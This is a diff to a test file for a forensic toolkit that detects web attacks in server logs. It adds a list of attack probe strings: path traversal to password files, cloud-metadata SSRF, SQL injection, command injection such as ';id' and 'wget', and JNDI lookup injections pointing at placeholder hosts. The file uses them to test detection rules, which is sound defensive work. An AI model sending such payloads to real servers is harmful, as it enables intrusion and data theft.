@@ -2,13 +2,16 @@
 
 from __future__ import annotations
 
+import random
 from datetime import UTC, datetime, timedelta
 
 import pytest
 
+from forensic_toolkit.readers import web_logs
 from forensic_toolkit.readers.coverage import Artifact
+from forensic_toolkit.readers.web_logs import Clock, decoded, moment
 from forensic_toolkit.results import Event, Finding
-from forensic_toolkit.rules import web_rules
+from forensic_toolkit.rules import web_attacks, web_rules
 from tests.toolkit.fake_tree import Builder
 
 
@@ -195,3 +198,71 @@ def test_a_list_of_names_is_tried(different: int, seconds: float, agent: str, is
     lists = [item for item in items if isinstance(item, Finding) and item.technique == "T1595.003"]
     assert [(item.count, item.data["paths"]) for item in lists] == ([(40, different)] if is_list else [])
     assert all(item.time == datetime(2026, 3, 1, 9, tzinfo=UTC) for item in lists)
+
+
+WORDS = (
+    "/wp-login.php", "/.env", "/.git/config", "/index.html", "/api/v1/users", "/actuator/env", "/cgi-bin/luci", "/solr/admin/config", "/boaform/x",
+    "/HNAP1", "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php", "?s=/index/think/app/invokefunction&function=call_user_func_array&vars=1", "?x=1",
+    "?file=/etc/passwd", "?f=../../etc/shadow", "?u=http://169.254.169.254/latest", "?id=1+union+select+1", "?id=1+union+all+select+2", "?q=a'or'1'='1",
+    "?c=sleep5", "?c=sleep(5)", "?c=pg_sleep(9)", "?c=waitfor+delay+'0:0:5'", "?cmd=wget+x", "?cmd=/bin/id", "?a=1&wget+http", "?a=1&sh+x", "?a=1;id",
+    "?a=`id`", "?a=%24%7bjndi:ldap://x%7d", "?a=%2524%257bjndi:x%257d", "/owa/auth/x.aspx?1", "/tmui/login.jsp/..;/x", "/manager/text/deploy", "/manager/html",
+    "/remote/fgt_lang?lang=x", "/druid/index.html", "/autodiscover/autodiscover.json?@x", "?x=information_schema.tables", "?x=php://input", "/phpMyAdmin/",
+    "/xmlrpc.php", "/server-status", "/static/app.8f3a.js", "?q=reunion+sleepy+hollow", "/plugins/servlet/x", "/rest/tinymce/1", "/pages/xcreatepage", "/vpns/../x",
+    "/_ignition/execute-solution", "?class.module.classLoader=1", "?x=ognl.Ognl", "/wls-wsat/x", "/_async/AsyncResponseService", "/setup.cgi?next_file=x",
+    "?allow_url_include=1", "/api/jsonws/invoke", "/dana-na/../x", "?x=benchmark(1)", "?x=extractvalue(1)", "?x=xp_cmdshell", "/GponForm/x", "/phpinfo", "/proc/self/environ",
+)  # fmt: skip
+
+
+def test_what_is_looked_at_closely_changes_nothing_in_what_is_found() -> None:
+    dice = random.Random(3)
+    targets = [*WORDS, *("".join(dice.sample(WORDS, dice.randint(2, 4))) for _ in range(4000))]
+    targets += [target.upper() for target in targets[:500]]
+    found = 0
+    for target in targets:
+        wanted = next((rule for rule in web_attacks._ATTACKS if rule[2].search(decoded(target))), None)
+        assert web_attacks.suspicious(target) == wanted, target
+        found += wanted is not None
+    assert found > 1000
+
+
+def test_an_attack_in_a_header_says_more_than_a_scanned_path() -> None:
+    said = web_attacks.suspicious("/.env", "-", "${jndi:ldap://198.51.100.7/a}")
+    assert said is not None and said[0] == "Lookup injection"
+    assert (web_attacks.suspicious("/.env", "-", "curl/8") or ("",))[0] == "Vulnerability scan"
+    assert web_attacks.suspicious("/a", "https://example.org/?q=1", "Mozilla/5.0 (X11; Linux x86_64)") is None
+
+
+@pytest.mark.parametrize(
+    "text", ["01/Mar/2026:10:00:00 +0100", "29/Feb/2024:23:59:60 -0530", "31/Dec/2026:00:00:00 +0000", "2026-03-01T10:00:00Z", "32/Mar/2026:10:00:00 +0000",
+             "01/Xxx/2026:10:00:00 +0000", "01/Mar/2026:25:00:00 +0000", "01-Mar-2026:10:00:00 +0100", "", "x" * 26]
+)  # fmt: skip
+def test_the_fast_clock_says_what_the_slow_one_says(text: str) -> None:
+    slow = moment(text)
+    fast = Clock().seconds(text)
+    if text.endswith("-0530"):
+        assert fast == datetime(2024, 3, 1, 5, 30, tzinfo=UTC).timestamp() and slow is None, (
+            "a leap second is the next minute"
+        )
+    else:
+        assert fast == (slow.timestamp() if slow else None)
+
+
+LINES = (
+    '198.51.100.7 - - [01/Mar/2026:10:00:00 +0100] "GET /a HTTP/1.1" 200 5 "-" "curl/8"',
+    '198.51.100.7 - - [01/Mar/2026:10:00:00 +0100] "GET /a HTTP/1.1" 200 5',
+    'web1:443 198.51.100.7 - - [01/Mar/2026:10:00:00 +0100] "GET /a HTTP/1.1" 200 5 "-" "curl/8"',
+    '198.51.100.7 - kim lee [01/Mar/2026:10:00:00 +0100] "GET /a HTTP/1.1" 200 5 "-" "curl/8" 0.02',
+    r'198.51.100.7 - - [01/Mar/2026:10:00:00 +0100] "GET /a HTTP/1.1" 200 5 "-" "x\"${jndi:ldap://198.51.100.9}"',
+    r'198.51.100.7 - - [01/Mar/2026:10:00:00 +0100] "GET /a\" HTTP/1.1" 404 - "\x22" "-"',
+    'fe80::1 - kim [01/Mar/2026:10:00:00 +0100] "POST /a" 201 - "https://x.example/[1]" "a b [c] d"',
+    '198.51.100.7 - - [01/Mar/2026:10:00:00 +0100] "GET /a HTTP/1.1" 200 5 "-" "curl/8" "203.0.113.5" rt=0.1',
+)
+
+
+@pytest.mark.parametrize("line", LINES)
+def test_the_common_form_of_a_line_is_read_as_the_whole_pattern_reads_it(line: str) -> None:
+    match = web_logs._LINE.match(line)
+    assert match is not None
+    assert web_logs.parts(line) == match.group(
+        "address", "user", "time", "method", "target", "status", "referer", "agent"
+    )
